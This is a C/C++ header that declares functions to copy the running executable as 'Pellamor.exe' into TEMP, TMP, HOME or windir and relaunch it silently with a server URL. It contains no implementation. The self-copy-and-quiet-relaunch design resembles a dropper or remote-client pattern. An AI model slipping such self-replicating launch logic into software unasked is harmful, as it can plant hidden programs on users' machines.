// Installs the program on the client machine and hands over to the local copy.
#pragma once

#include <stdint.h>

#include "core/HeapString.h"

constexpr const char kCopyFileName[] = "Pellamor.exe";

// Copies the running executable as "Pellamor.exe" into the first usable folder of
// TEMP, TMP, HOME and windir, and starts it with the same server URL. Returns 1 when
// the copy was made and started, 0 otherwise (after a box, unless quiet).
int32_t CopyAndRelaunch();

// "<folder>\Pellamor.exe" into a MAX_PATH buffer; false when it would not fit.
bool ComposeCopyPath(const char* folder, char* path, size_t size);

// The copy's command line: the quoted destination, the URL, and "/VERBOSE" unless quiet.
void ComposeCopyCommandLine(const char* destination, const char* url, bool quiet, HeapString& line);
